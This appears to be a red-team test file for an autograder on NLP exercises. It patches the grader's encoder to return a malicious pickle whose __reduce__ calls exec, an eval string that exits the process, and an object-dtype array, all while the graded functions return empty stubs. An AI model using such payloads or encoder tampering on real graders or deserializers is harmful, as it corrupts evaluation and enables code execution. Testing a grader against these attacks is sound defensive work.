# ---
# attack: Values are encoded as types that the judge would have to build or to run.
# fails: {stem: everything, lemmatize: everything, label_encode: everything}
# reason:
#   stem: "a value of type 'pickle' cannot be read"
#   lemmatize: "a value of type 'eval' cannot be read"
#   label_encode: arrays of 'object' are not read
# ---

# %% grade_id="stem"
import base64
import pickle

from selfcheck import responses

original_encode = responses.encode
kinds = []


class Payload:
    def __reduce__(self):
        return exec, ("raise SystemExit(77)",)


def encode(value, depth=0):
    kind = kinds[-1] if kinds else ""
    if kind == "pickle":
        data = base64.b64encode(pickle.dumps(Payload())).decode()
        return {"type": "pickle", "value": data, "data": data}
    if kind == "eval":
        return {"type": "eval", "value": "__import__('os')._exit(77)"}
    if kind == "object":
        return {"type": "array", "dtype": "object", "shape": [1], "data": "AAAAAAAAAAA="}
    return original_encode(value, depth)


responses.encode = encode
kinds.append("pickle")


def stem(tokens):
    return []


# %% grade_id="lemmatize"
kinds.append("eval")


def lemmatize(tokens, pos):
    return []


# %% grade_id="one_hot"
kinds.append("")


def one_hot(words, vocabulary):
    return [[float(word == entry) for entry in vocabulary] for word in words]


# %% grade_id="label_encode"
kinds.append("object")


def label_encode(labels):
    return []


# %% grade_id="bag_of_words"
kinds.append("")


def bag_of_words(documents):
    vocabulary = sorted({token for document in documents for token in document})
    return [[document.count(word) for word in vocabulary] for document in documents], vocabulary


# %% grade_id="tf_idf"
def tf_idf(documents):
    counts = np.array(bag_of_words(documents)[0])
    weights = counts * (np.log((1 + len(documents)) / (1 + (counts > 0).sum(axis=0))) + 1)
    lengths = np.linalg.norm(weights, axis=1, keepdims=True)
    return weights / np.where(lengths == 0, 1, lengths)
